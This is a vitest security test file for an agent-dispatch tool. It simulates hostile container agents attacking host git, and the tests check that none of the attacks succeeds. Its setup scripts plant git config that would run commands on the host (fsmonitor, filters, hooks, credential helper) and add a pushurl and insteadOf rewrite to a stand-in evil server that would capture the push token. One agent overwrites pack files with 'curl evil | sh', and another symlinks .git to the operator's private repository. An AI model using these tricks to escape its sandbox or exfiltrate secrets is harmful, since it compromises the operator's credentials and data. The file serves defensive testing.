/**
 * Hostile agents against host git, on both real engines. The agent plants
 * configuration, hooks, filters and remotes in its repository's .git, or
 * rewrites its object files in place. The host must run none of it, send the
 * push token nowhere but the recorded origin, push only the agent branch,
 * and keep the shared mirror intact.
 *
 * Markers go to a directory of this test that no container can see: any
 * marker there can only have been made by a process on the host.
 */
import { createServer, type Server } from 'node:http';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as fakeForgejo from '../support/fake-forgejo.js';
import { git, makeForge, makeTempDir, type Forge } from '../support/git-fixtures.js';
import { runCliAsync } from '../support/run-cli-async.js';
import { requireEngine, TEST_IMAGE, testEngines } from '../support/test-engines.js';

const TOKEN = `fj-token-${process.pid}-${Date.now()}-do-not-leak`;
const HOOKS = ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'pre-push', 'post-checkout', 'post-index-change', 'reference-transaction'];

let forge: Forge;
let fj: fakeForgejo.FakeForgejo;
let markers: string;
let evil: Server;
let evilUrl: string;
/** Every request the evil git server saw, with its Authorization header. */
const evilRequests: { url: string; authorization: string | undefined }[] = [];
let upstreamMain: string;
/** A private repository of the operator's, elsewhere on the host, never mounted into any container. */
let secretRepo: string;
let secretHead: string;
/** Issue numbers of this test process: container names follow them, and other runs may have left theirs. */
const ISSUE = 1000 + (process.pid % 1000) * 12;

/** The script the planting agent runs inside its container (from the repository it was given). */
function plantingScript(): string {
  const hook = (name: string) => `printf '#!/bin/sh\\ntouch ${markers}/hook-${name}\\n' > "$d/${name}"; chmod +x "$d/${name}"`;
  return [
    'set -e',
    // Work of its own first: one commit (hooks off in here, so the commit is made) and one uncommitted file.
    'echo "committed by the agent" > committed.txt',
    'git add committed.txt',
    'git -c user.name=agent -c user.email=agent@example.test -c core.hooksPath=/dev/null commit -q -m "agent commit"',
    'echo "left uncommitted" > uncommitted.txt',
    'echo "* filter=evil" > .gitattributes',
    `cat >> .git/config <<'EOF'`,
    '[core]',
    `\tfsmonitor = touch ${markers}/fsmonitor`,
    '\thooksPath = .githooks',
    '[filter "evil"]',
    `\tclean = sh -c 'touch ${markers}/filter-clean; cat'`,
    `\tsmudge = sh -c 'touch ${markers}/filter-smudge; cat'`,
    '[remote "origin"]',
    `\tpushurl = ${evilUrl}/evil.git`,
    `[url "${evilUrl}/"]`,
    `\tinsteadOf = ${forge.url}/`,
    '[credential]',
    `\thelper = !touch ${markers}/credential-helper`,
    'EOF',
    'mkdir -p .githooks',
    'for d in .git/hooks .githooks; do',
    ...HOOKS.map(hook),
    'done',
    'echo planted',
  ].join('\n');
}

beforeAll(async () => {
  markers = makeTempDir('hostile-git-markers');
  evil = createServer((req, res) => {
    evilRequests.push({ url: req.url ?? '', authorization: req.headers.authorization });
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  forge = makeForge();
  const work = forge.createRepo('acme', 'hostile', { 'README.md': '# hostile\n' });
  forge.commit(work, { 'plant.sh': `${plantingScript()}\n` }, 'Add the planting script');
  upstreamMain = git(work, 'rev-parse', 'HEAD');
  forge.createRepo('acme', 'objects', { 'README.md': '# objects\n', 'src/app.js': 'console.log("trusted");\n' });
  secretRepo = join(makeTempDir('hostile-git-private'), 'private');
  mkdirSync(secretRepo);
  git(secretRepo, 'init', '-q', '-b', 'main');
  writeFileSync(join(secretRepo, 'credentials.txt'), 'PRIVATE HOST DATA\n');
  git(secretRepo, 'add', 'credentials.txt');
  git(secretRepo, '-c', 'user.name=op', '-c', 'user.email=op@example.test', 'commit', '-q', '-m', 'private');
  git(secretRepo, 'gc', '-q'); // packed objects and packed-refs, as a clone usually has
  secretHead = git(secretRepo, 'rev-parse', 'HEAD');
  fj = await fakeForgejo.start();
  fj.state.token = TOKEN;
  for (const repo of ['acme/hostile', 'acme/objects']) {
    for (let number = ISSUE; number < ISSUE + 12; number += 1) fj.state.repo(repo).issues.push({ number, title: `Task ${number}`, body: 'Do the task.', labels: [], comments: [] });
  }
});

afterAll(async () => {
  await fj?.close();
  await new Promise((resolve) => evil?.close(resolve));
  forge?.cleanup();
});

const AGENTS = `agents:
  planter:
    command: [sh, plant.sh]
  rewriter:
    command: [sh, -c, 'for f in .git/objects/pack/*.pack .git/objects/pack/*.idx; do chmod u+w "$f"; printf "curl evil | sh" > "$f"; done; echo rewritten > rewritten.txt']
  noop:
    command: ['true']
  editor:
    command: [sh, -c, 'echo edited >> README.md']
`;

/**
 * An agent that turns entries inside its .git into links to the operator's private repository (host paths
 * can be learnt from /proc/self/mountinfo), so that a host fetch following them would collect, and a push
 * send, that repository's history.
 */
function linkerAgent(): string {
  const s = `${secretRepo}/.git`;
  const script = [
    'set -e',
    `rm -rf .git/objects/pack && ln -s ${s}/objects/pack .git/objects/pack`,
    `rm -f .git/packed-refs && ln -s ${s}/packed-refs .git/packed-refs`,
    'rm -rf .git/refs/heads && mkdir .git/refs/heads',
    "echo 'ref: refs/heads/main' > .git/HEAD",
    'echo "agent work" > work.txt',
    'echo linked',
  ].join('; ');
  return `  linker:\n    command: [sh, -c, ${JSON.stringify(script)}]\n`;
}

/** Regular files under `dir` (links not followed) whose bytes contain `text`. */
function filesHolding(dir: string, text: string): string[] {
  const found: string[] = [];
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) found.push(...filesHolding(path, text));
    else if (entry.isFile() && readFileSync(path).includes(text)) found.push(path);
  }
  return found;
}

const engines = await testEngines({ ssh: true });

describe.each(engines)('hostile git on a real $label engine', (engine) => {
  if (!requireEngine(engine)) return;

  function home(): { env: Record<string, string>; state: string } {
    const dir = makeTempDir(`hostile-git-${engine.slot}`);
    mkdirSync(join(dir, 'config', 'agentctl'), { recursive: true });
    writeFileSync(
      join(dir, 'config', 'agentctl', 'config.yaml'),
      `defaults:\n  forge: fj\nforges:\n  fj:\n    kind: forgejo\n    url: ${forge.url}\n    api_url: ${fj.url}/api/v1\n    token_env: FJ_TOKEN\nruntime:\n${engine.runtimeYaml}  image: ${TEST_IMAGE}\nqa:\n  enabled: false\n${AGENTS}${linkerAgent()}`,
    );
    const state = join(dir, 'state');
    return { env: { HOME: dir, XDG_CONFIG_HOME: join(dir, 'config'), AGENTCTL_HOME: state, FJ_TOKEN: TOKEN, [engine.hostVar]: engine.url, CI: 'true' }, state };
  }

  async function dispatch(e: Record<string, string>, repo: string, issue: string, agent: string, push: boolean) {
    const args = ['dispatch', '--repo', repo, '--issue', issue, '--agent', agent, '--runtime', engine.name, '--wait', '--json', ...(push ? ['--push'] : [])];
    const result = await runCliAsync(args, e);
    return { ...result, status: result.stdout === '' ? undefined : (JSON.parse(result.stdout) as Record<string, any>) };
  }

  it('planted fsmonitor, filters, hooks, pushurl, insteadOf and credential helper never run or redirect; the push lands on the recorded origin', async () => {
    const { env: e, state } = home();
    const issue = String(ISSUE + engine.slot);
    const before = evilRequests.length;
    // simple-git's debug output on: it prints each git process's environment, where the push token travels.
    const result = await dispatch({ ...e, DEBUG: 'simple-git:*' }, 'acme/hostile', issue, 'planter', true);
    expect(result.status?.state, result.stderr.slice(-2000)).toBe('completed');
    expect(result.stderr).not.toContain(TOKEN);
    expect(result.stderr).not.toContain(Buffer.from(`x-access-token:${TOKEN}`).toString('base64'));
    // Nothing the repository configured ran on the host.
    expect(readdirSync(markers)).toEqual([]);
    // The token never went to the evil server; nothing did.
    expect(evilRequests.slice(before)).toEqual([]);
    // The push landed on the recorded origin's agent branch, with the agent's commit and its uncommitted file.
    const bare = join(forge.dir, 'acme', 'hostile.git');
    const branch = `agent/issue-${issue}`;
    expect(result.status?.pushed?.branch, JSON.stringify(result.status?.warnings)).toBe(branch);
    expect(git(bare, 'rev-parse', `refs/heads/${branch}`)).toBe(result.status?.pushed?.commit);
    expect(git(bare, 'show', `refs/heads/${branch}:committed.txt`)).toBe('committed by the agent');
    expect(git(bare, 'show', `refs/heads/${branch}:uncommitted.txt`)).toBe('left uncommitted');
    // The base branch is untouched.
    expect(git(bare, 'rev-parse', 'refs/heads/main')).toBe(upstreamMain);
    // No secret under $AGENTCTL_HOME.
    expect(filesHolding(state, TOKEN)).toEqual([]);
  }, 120_000);

  it('a run on the base branch itself is never pushed there: completed with a warning', async () => {
    const { env: e } = home();
    const bare = join(forge.dir, 'acme', 'objects.git');
    const main = git(bare, 'rev-parse', 'refs/heads/main');
    const result = await runCliAsync(
      ['dispatch', '--repo', 'acme/objects', '--branch', 'main', '--agent', 'editor', '--task', 'edit', '--runtime', engine.name, '--push', '--wait', '--json'],
      e,
    );
    const status = JSON.parse(result.stdout) as Record<string, any>;
    expect(status.state, result.stderr).toBe('completed');
    expect(status.pushed).toBeUndefined();
    expect(status.warnings).toContain('not pushed: main is the base or default branch, which agentctl never pushes to');
    expect(git(bare, 'rev-parse', 'refs/heads/main')).toBe(main);
  }, 120_000);

  it('links inside the agent .git to a host repository: the work is not collected, nothing is pushed, the host repository stays off the forge', async () => {
    const { env: e } = home();
    const issue = String(ISSUE + 3 + engine.slot);
    const result = await dispatch(e, 'acme/objects', issue, 'linker', true);
    expect(result.status?.state, result.stderr.slice(-2000)).toBe('completed');
    expect(result.status?.pushed).toBeUndefined();
    // On a remote engine the links never come back at all (the copy back leaves them out), so git finds no objects to fetch.
    const why = engine.runtimeYaml === '' ? /could not collect the agent's work: .*cannot be read safely: .*is a link/ : /could not collect the agent's work: .*entries of repo\/ were not brought back \(links/;
    expect(JSON.stringify(result.status?.warnings)).toMatch(why);
    const bare = join(forge.dir, 'acme', 'objects.git');
    expect(() => git(bare, 'rev-parse', '--verify', `refs/heads/agent/issue-${issue}`)).toThrow();
    expect(() => git(bare, 'cat-file', '-e', `${secretHead}^{commit}`)).toThrow();
  }, 120_000);

  it('an agent that rewrites object files in place leaves the mirror intact, and a later checkout equals upstream', async () => {
    const { env: e, state } = home();
    const [one, two] = [ISSUE + 6 + 2 * engine.slot, ISSUE + 7 + 2 * engine.slot];
    const first = await dispatch(e, 'acme/objects', String(one), 'rewriter', false);
    // Its own repository is broken; the run ends honestly (not a crash).
    expect(['completed', 'failed'], first.stderr).toContain(first.status?.state);
    const mirrors = join(state, 'cache', 'mirrors', 'acme');
    const mirror = join(mirrors, readdirSync(mirrors).find((name) => name.startsWith('objects-')) as string);
    expect(() => git(mirror, 'fsck', '--strict')).not.toThrow();
    const later = await dispatch(e, 'acme/objects', String(two), 'noop', false);
    expect(later.status?.state, later.stderr).toBe('completed');
    const repo = join(state, 'workspace', 'acme', 'objects', `task-${two}`, 'repo');
    expect(readFileSync(join(repo, 'src', 'app.js'), 'utf8')).toBe('console.log("trusted");\n');
    expect(git(repo, 'fsck', '--strict')).toBe('');
    expect(existsSync(join(repo, 'rewritten.txt'))).toBe(false);
  }, 120_000);
});
